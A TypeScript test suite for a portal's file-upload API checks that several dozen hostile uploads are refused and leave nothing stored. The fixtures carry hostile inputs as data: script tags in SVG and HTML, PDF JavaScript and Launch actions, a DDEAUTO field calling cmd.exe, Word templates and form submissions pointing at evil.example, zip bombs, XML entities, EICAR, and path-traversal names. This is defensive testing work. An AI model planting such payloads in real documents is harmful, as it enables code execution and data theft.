// Files that an attacker would send, over the real API: each is refused by its code, and nothing of it stays.

import assert from 'node:assert/strict'
import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import type { ErrorCode } from '@bawaba/contract/errors.ts'
import sharp from 'sharp'
import { measureCpu } from '../../platform/test-patience.ts'
import {
  docx,
  docxWithTwoDirectories,
  eicar,
  hugePng,
  multipart,
  packedPdf,
  pdf,
  pdfHolding,
  photo,
  rels,
  type TestFile,
  xlsx,
  zip,
} from '../../test-files.ts'
import { openTestPortal, type TestPortal } from '../../test-portal.ts'

let portal: TestPortal
let owner: Awaited<ReturnType<TestPortal['citizen']>>
const limit = 3_000_000

before(async () => {
  portal = await openTestPortal({ FILE_MAX_SIZE: String(limit), FILES_WAITING: '1000' })
  owner = await portal.citizen()
})
after(() => portal.close())

const upload = (file: TestFile) => owner.send('POST files', multipart(file))
const left = async (): Promise<string[]> => {
  const found = await Promise.all(
    ['quarantine', 'files'].map(name =>
      readdir(join(portal.folder, name), { recursive: true, withFileTypes: true }).catch(() => []),
    ),
  )
  return found
    .flat()
    .filter(entry => entry.isFile())
    .map(({ name }) => name)
}

const jpeg = (name: string, bytes: Buffer, type = 'image/jpeg'): TestFile => ({ name, type, bytes })
const text = (name: string, words: string, type = 'text/plain'): TestFile => ({
  name,
  type,
  bytes: Buffer.from(words),
})
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

const hostile: Record<string, [TestFile | (() => Promise<TestFile>), ErrorCode]> = {
  'a program called a picture': [
    jpeg('photo.jpg', Buffer.from('MZ\u0090\u0000program'.repeat(50))),
    'FILE_UNSAFE',
  ],
  'a program under its own name': [text('setup.exe', 'MZ', 'application/octet-stream'), 'FILE_TYPE'],
  'a picture that is a PDF': [jpeg('photo.jpg', pdf().bytes), 'FILE_TYPE_MISMATCH'],
  'a PDF declared as a picture': [{ ...pdf('a.pdf'), type: 'image/png' }, 'FILE_TYPE_MISMATCH'],
  'a PDF that is HTML': [
    { ...pdf(), bytes: Buffer.from('<!doctype html><script>alert(1)</script>') },
    'FILE_UNSAFE',
  ],
  'an SVG with a script': [text('logo.svg', svg, 'image/svg+xml'), 'FILE_TYPE'],
  'an SVG called a picture': [jpeg('logo.png', Buffer.from(svg), 'image/png'), 'FILE_UNSAFE'],
  'HTML called text': [
    text('notes.txt', `hello ${' '.repeat(5000)}<script>alert(1)</script>`),
    'FILE_UNSAFE',
  ],
  'binary called text': [text('notes.txt', 'abc\u0001\u0002'), 'FILE_TYPE_MISMATCH'],
  'a PDF that is a zip as well': [
    { ...pdf(), bytes: Buffer.concat([pdf().bytes, docx().bytes]) },
    'FILE_TYPE_MISMATCH',
  ],
  'a PDF with a script': [pdf('a.pdf', '/OpenAction <</S/JavaScript/JS(app.alert(1))>>'), 'FILE_UNSAFE'],
  'a PDF whose script is spelled with escapes': [
    pdf('a.pdf', '/OpenAction <</S/J#61va#53cript/JS(1)>>'),
    'FILE_UNSAFE',
  ],
  'a PDF whose script is packed': [packedPdf(), 'FILE_UNSAFE'],
  'a PDF that starts a program': [pdf('a.pdf', '/OpenAction <</S/Launch/F(cmd.exe)>>'), 'FILE_UNSAFE'],
  'a PDF with a password': [pdf('a.pdf', '', 'trailer <</Encrypt 9 0 R>>'), 'FILE_PROTECTED'],
  'the test virus': [text('notes.txt', eicar), 'FILE_UNSAFE'],
  'the test virus at a seam': [text('notes.txt', `${'a'.repeat((1 << 20) - 30)}${eicar}`), 'FILE_UNSAFE'],
  'a document with macros': [
    docx('a.docx', [{ name: 'word/vbaProject.bin', bytes: Buffer.from('x') }]),
    'FILE_UNSAFE',
  ],
  'a document whose second directory hides macros': [docxWithTwoDirectories(), 'FILE_DAMAGED'],
  'a document with macros behind a backslash': [
    docx('a.docx', [{ name: 'word\\vbaProject.bin', bytes: Buffer.from('x') }]),
    'FILE_UNSAFE',
  ],
  'a document with a program': [
    docx('a.docx', [{ name: 'word/run.exe', bytes: Buffer.from('x') }]),
    'FILE_UNSAFE',
  ],
  'a macro document by its name': [{ ...docx('a.docm'), type: '' }, 'FILE_TYPE'],
  'a zip that calls itself a document': [{ ...docx('a.xlsx'), type: '' }, 'FILE_TYPE_MISMATCH'],
  'a zip bomb': [
    docx('a.docx', [{ name: 'word/media/a.png', bytes: Buffer.alloc(250 << 20) }]),
    'FILE_ARCHIVE',
  ],
  'a zip bomb by its claim': [
    docx('a.docx', [{ name: 'x', bytes: Buffer.from('x'), claims: 0xfffffffe }]),
    'FILE_ARCHIVE',
  ],
  'a zip bomb whose directory lies': [
    docx('a.docx', [{ name: 'word/media/a.png', bytes: Buffer.alloc(250 << 20), claims: 1000 }]),
    'FILE_ARCHIVE',
  ],
  'a document whose directory tells more than there is': [
    docx('a.docx', [{ name: 'word/media/a.png', bytes: Buffer.alloc(10), claims: 1000 }]),
    'FILE_DAMAGED',
  ],
  'a zip inside a document, whatever it is called': [
    docx('a.docx', [{ name: 'word/media/a.png', bytes: zip([{ name: 'b', bytes: Buffer.alloc(1 << 20) }]) }]),
    'FILE_EMBEDDED',
  ],
  'a workbook inside a document': [
    docx('a.docx', [{ name: 'word/embeddings/sheet.xlsx', bytes: Buffer.from('x') }]),
    'FILE_EMBEDDED',
  ],
  'an OLE object inside a document': [
    docx('a.docx', [{ name: 'word/media/b.dat', bytes: Buffer.from('d0cf11e0a1b11ae100', 'hex') }]),
    'FILE_EMBEDDED',
  ],
  'a document with a template from elsewhere': [
    docx('a.docx', [rels('attachedTemplate', 'https://evil.example/t.dotm')]),
    'FILE_REMOTE',
  ],
  'a template whose mode is spelled in another way': [
    docx('a.docx', [rels('attachedTemplate', 'x.dotm', "TargetMode = '&#69;xternal'")]),
    'FILE_REMOTE',
  ],
  'a template from a share': [
    docx('a.docx', [rels('attachedTemplate', '\\\\evil\\t.dotm', '')]),
    'FILE_REMOTE',
  ],
  'relations written in UTF-16': [
    docx('a.docx', [
      {
        name: 'word/_rels/settings.xml.rels',
        bytes: Buffer.concat([
          Buffer.from('fffe', 'hex'),
          Buffer.from(rels('frame', 'http://evil.example').bytes.toString(), 'utf16le'),
        ]),
      },
    ]),
    'FILE_REMOTE',
  ],
  'relations with entities': [
    docx('a.docx', [
      { name: '_rels/.rels', bytes: Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>') },
    ]),
    'FILE_UNSAFE',
  ],
  'a workbook with entities': [
    xlsx('a.xlsx', [
      {
        name: 'xl/sharedStrings.xml',
        bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><sst/>'),
      },
    ]),
    'FILE_UNSAFE',
  ],
  'a workbook whose declaration is far behind': [
    xlsx('a.xlsx', [
      { name: 'xl/sharedStrings.xml', bytes: Buffer.from(`<!--${' '.repeat(9000)}--><!DOCTYPE a []><sst/>`) },
    ]),
    'FILE_UNSAFE',
  ],
  'a workbook that fetches its rows': [
    xlsx('a.xlsx', [{ name: 'xl/connections.xml', bytes: Buffer.from('<connections/>') }]),
    'FILE_REMOTE',
  ],
  'a picture from elsewhere': [
    docx('a.docx', [rels('image', 'http://evil.example/a.png', undefined, 'word/_rels/document.xml.rels')]),
    'FILE_REMOTE',
  ],
  'a control that runs': [docx('a.docx', [rels('control', 'x.bin', '')]), 'FILE_UNSAFE'],
  'ActiveX parts': [
    docx('a.docx', [{ name: 'word/activeX/activeX1.xml', bytes: Buffer.from('<a/>') }]),
    'FILE_UNSAFE',
  ],
  'a field that starts a program': [
    docx('a.docx', [
      {
        name: 'word/header1.xml',
        bytes: Buffer.from('<w:instrText>D</w:instrText></w:r><w:instrText>DEAUTO c:\\cmd.exe</w:instrText>'),
      },
    ]),
    'FILE_UNSAFE',
  ],
  'a PDF with a file inside': [
    pdf(
      'a.pdf',
      '/Names <</EmbeddedFiles 5 0 R>>',
      '5 0 obj <</Type/EmbeddedFile>> stream\nx\nendstream endobj',
    ),
    'FILE_EMBEDDED',
  ],
  'a PDF with a note that is a file': [
    pdf('a.pdf', '', '5 0 obj <</Subtype/FileAttachment>> endobj'),
    'FILE_EMBEDDED',
  ],
  'a PDF that sends what is typed': [
    pdf('a.pdf', '/AA <</S/Submit#46orm/F(https://evil.example)>>'),
    'FILE_REMOTE',
  ],
  'a PDF that hides a sender': [pdfHolding(Buffer.from('5 0 <</S/SubmitForm>>')), 'FILE_REMOTE'],
  'a PDF that unpacks to too much': [
    pdfHolding(Buffer.concat([Buffer.alloc(8 << 20, 32), Buffer.from('/JavaScript')])),
    'FILE_ARCHIVE',
  ],
  'a PDF packed so that it is not read': [
    pdfHolding(Buffer.from('x'), '/Filter[/ASCIIHexDecode/FlateDecode]'),
    'FILE_UNREADABLE',
  ],
  'a PDF of its first line only': [{ ...pdf(), bytes: Buffer.from('%PDF-1.7\n') }, 'FILE_DAMAGED'],
  'a zip of too many entries': [
    docx(
      'a.docx',
      Array.from({ length: 2001 }, (_, index) => ({ name: `word/${index}`, bytes: Buffer.alloc(0) })),
    ),
    'FILE_ARCHIVE',
  ],
  'a document with a password': [
    docx('a.docx', [{ name: 'x', bytes: Buffer.from('x'), flags: 1 }]),
    'FILE_PROTECTED',
  ],
  'a picture of 100,000 by 100,000': [
    jpeg('huge.png', hugePng(100_000), 'image/png'),
    'FILE_TOO_MANY_PIXELS',
  ],
  'a picture of 100,000 by 1,000': [
    jpeg('wide.png', hugePng(100_000, 1000), 'image/png'),
    'FILE_TOO_MANY_PIXELS',
  ],
  'a picture cut in half': [
    async () => {
      const file = await photo()
      return { ...file, bytes: file.bytes.subarray(0, file.bytes.length >> 1) }
    },
    'FILE_DAMAGED',
  ],
  'a PDF of zeros': [{ ...pdf(), bytes: Buffer.alloc(20_000) }, 'FILE_DAMAGED'],
  'a picture of zeros': [jpeg('photo.jpg', Buffer.alloc(20_000)), 'FILE_DAMAGED'],
  'a PDF cut in half': [
    { ...pdf(), bytes: pdf().bytes.subarray(0, pdf().bytes.length >> 1) },
    'FILE_DAMAGED',
  ],
  'zero bytes': [text('notes.txt', ''), 'FILE_EMPTY'],
  'one byte too many': [text('notes.txt', 'a'.repeat(limit + 1)), 'FILE_TOO_LARGE'],
  'far too many bytes': [text('notes.txt', 'a'.repeat(limit * 5)), 'FILE_TOO_LARGE'],
  'a name that ends in nothing': [text('notes', 'hello'), 'FILE_NAME'],
  'a name without letters': [text('....txt', 'hello'), 'FILE_NAME'],
  'a program behind a turned name': [text('invoice\u202efdp.exe', 'MZ'), 'FILE_TYPE'],
}

for (const [title, [made, code]] of Object.entries(hostile)) {
  test(`${title} is refused`, async () => {
    const file = typeof made === 'function' ? await made() : made
    const { result: answer, milliseconds } = await measureCpu(() => upload(file))
    assert.equal(answer.body.error?.code, code, JSON.stringify(answer.body))
    assert.equal(answer.status, 422)
    assert.ok(milliseconds < 3000, `took ${milliseconds} ms`)
    // The words name the file, isolated, and nothing stays unfilled.
    assert.match(answer.body.error.message, /\u2068/)
    assert.doesNotMatch(answer.body.error.message, /[{}]/)
    assert.deepEqual(await left(), [])
  })
}

test('honest files pass: what the checks refuse is not refused by accident', async () => {
  const honest = [
    docx('links.docx', [
      rels('hyperlink', 'https://example.eg', undefined, 'word/_rels/document.xml.rels'),
      { name: 'docProps/app.xml', bytes: Buffer.from('<Properties/>') },
      { name: 'word/media/a.png', bytes: Buffer.alloc(50_000, 'picture') },
    ]),
    pdfHolding(Buffer.from('5 0 <</S/URI/URI(https://example.eg)>>')),
    await photo(),
    pdf(),
    docx(),
    xlsx(),
    text('ملاحظات.txt', 'سطر\nآخر'),
    text('a.csv', 'a,b\n1,2', 'text/csv'),
    text('notes.txt', 'a'.repeat(limit)),
    pdf('a.pdf', '/OpenAction [3 0 R /Fit]'),
    { ...pdf(), type: 'application/octet-stream' },
    jpeg(
      'a.png',
      await sharp({ create: { width: 9, height: 9, channels: 4, background: '#0008' } })
        .png()
        .toBuffer(),
      'image/png',
    ),
  ]
  for (const file of honest) {
    const { status, body } = await upload(file)
    assert.deepEqual([status, body.state], [201, 'clean'], `${file.name}: ${JSON.stringify(body)}`)
    assert.match(body.sha256, /^[0-9a-f]{64}$/)
  }
})

test('names lose paths, controls and what is too long', async () => {
  const long = 'ا'.repeat(300)
  const names: [string, string][] = [
    ['../../etc/passwd.txt', 'passwd.txt'],
    ['C:\\\\secret\\\\a.txt', 'a.txt'],
    ['in\u202evoice\u2066.txt', 'invoice.txt'],
    ['a\u0000b.txt', 'ab.txt'],
    [`${long}.txt`, `${long.slice(0, 100)}.txt`],
    ['بطاقة  الرقم.TXT', 'بطاقة الرقم.txt'],
    ['.hidden.txt', 'hidden.txt'],
  ]
  for (const [sent, expected] of names) {
    const { status, body } = await upload(text(sent, 'hello'))
    assert.deepEqual([status, body.name], [201, expected], JSON.stringify(body))
  }
})

test('a picture keeps nothing but the picture, upright', async () => {
  const file = await photo()
  assert.match(file.bytes.toString('latin1'), /Secret Place/)
  const { body } = await upload(file)
  const link = (await owner.send(`GET files/${body.id}/link`)).body.href
  const cookie = [...owner.jar].map(([name, value]) => `${name}=${value}`).join('; ')
  const { rawPayload } = await portal.portal.app.inject({ url: link, headers: { cookie } })
  assert.doesNotMatch(rawPayload.toString('latin1'), /Secret Place|Exif/)
  const { width, height, exif } = await sharp(rawPayload).metadata()
  assert.deepEqual([width, height, exif], [40, 60, undefined])
})

test('where the scanner does not answer nothing is taken, and nothing is lost', async () => {
  const closed = await openTestPortal({ CLAMD: '127.0.0.1:1' })
  try {
    const who = await closed.citizen()
    const answer = await who.send('POST files', multipart(pdf()))
    assert.deepEqual([answer.status, answer.body.error.code], [503, 'FILE_CHECK_UNAVAILABLE'])
    assert.ok(Number(answer.headers['retry-after']) > 0)
  } finally {
    await closed.close()
  }
})
